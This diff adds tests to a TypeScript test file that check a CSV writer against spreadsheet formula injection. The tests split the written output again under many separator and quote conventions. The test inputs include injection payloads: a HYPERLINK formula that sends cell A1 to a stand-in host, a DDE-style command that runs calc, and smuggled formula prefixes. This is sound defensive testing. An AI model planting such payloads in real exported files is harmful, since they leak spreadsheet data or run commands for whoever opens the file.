@@ -39,3 +39,87 @@ test('any table is read back as it was, but for the apostrophes', () => {
     { numRuns: 500 },
   )
 })
+
+// A spreadsheet that expects another separator, or other quotation marks, begins cells where we did not.
+const readings = [',', ';', '\t', '|', ' '].flatMap((separator) =>
+  ['"', "'", null].map((quote) => ({ separator, quote })),
+)
+
+test.each([
+  ['b,=HYPERLINK("https://evil.invalid/"&A1)'],
+  ['shoe;=1+1;tail'],
+  ["shoe,'=1+1',tail"],
+  ["='x'"],
+  ["'=1+1'"],
+  ['"=1+1"'],
+  ['a,"=1+1"'],
+  ["a|@SUM(1)*cmd|'/C calc'!A0"],
+  ['a\t-1+1'],
+  ['a =1+1'],
+  ["a '=1+1' b"],
+  ['a,"x\n=1+1,"b'],
+])('%j holds no formula, wherever it is split', (text) => {
+  for (const reading of readings) expect(formulasIn([['x', text, 'y']], ';', reading)).toEqual([])
+})
+
+test('no table holds a formula, wherever its lines are split', () => {
+  const text = fc.string({ unit: fc.constantFrom(...'===@+-\t\r\n";,|\'ä5 .(a') })
+  const tables = fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 4 })
+  fc.assert(
+    fc.property(tables, fc.constantFrom(';', ','), (table, delimiter) => {
+      for (const reading of readings) expect(formulasIn(table, delimiter, reading)).toEqual([])
+    }),
+    { numRuns: 2_000 },
+  )
+})
+
+interface Reading {
+  separator: string
+  quote: string | null
+}
+
+function formulasIn(table: string[][], delimiter: string, reading: Reading): string[] {
+  const written = table.map((row) => `${row.map(writeCell).join(delimiter)}\r\n`).join('')
+  return splitAnew(written, reading).filter((each) => isFormula(each, delimiter, reading))
+}
+
+/** As LibreOffice does: blanks may stand before a quotation mark, and one that nothing follows ends the cell. */
+function splitAnew(written: string, { separator, quote }: Reading): string[] {
+  const cells: string[] = []
+  const isEnd = (at: number) => at >= written.length || `${separator}\r\n`.includes(written.charAt(at))
+  for (let at = 0; at < written.length; at += 1) {
+    let begin = at
+    while (written[begin] === ' ' && separator !== ' ') begin += 1
+    let end = begin
+    if (quote !== null && written[begin] === quote) {
+      end += 1
+      while (end < written.length && !(written[end] === quote && isEnd(end + 1)))
+        end += written[end] === quote && written[end + 1] === quote ? 2 : 1
+      if (end < written.length) {
+        cells.push(written.slice(begin + 1, end).replaceAll(quote + quote, quote))
+        at = end + 1
+        continue
+      }
+      end = begin
+    }
+    while (!isEnd(end)) end += 1
+    cells.push(written.slice(begin, end))
+    at = end
+  }
+  return cells
+}
+
+function isFormula(cell: string, delimiter: string, { separator }: Reading): boolean {
+  const seen = cell.replace(/^[\s\p{Cf}"]+/u, '')
+  if (seen.startsWith('=')) return separator !== ' ' || /^=[^\s=>]/.test(seen)
+  // Of texts in words too much would change.
+  if (separator === ' ' || !/^[+\-@]/.test(seen)) return false
+  // No formula goes on behind a quotation mark that ends a cell of ours.
+  const own = seen
+    .split(/["'\r\n]/, 1)[0]!
+    .split(delimiter, 1)[0]!
+    .trimEnd()
+  const isNumber = /^[+-][.,]?\d[\p{L}\d .,%°€]*$/u.test(own)
+  const callsNothing = /^([+-]\s|[+\-@]\p{L})[^(|!]*$/u.test(own)
+  return !isNumber && !callsNothing && !/^[+-][\s).]*$/.test(own)
+}
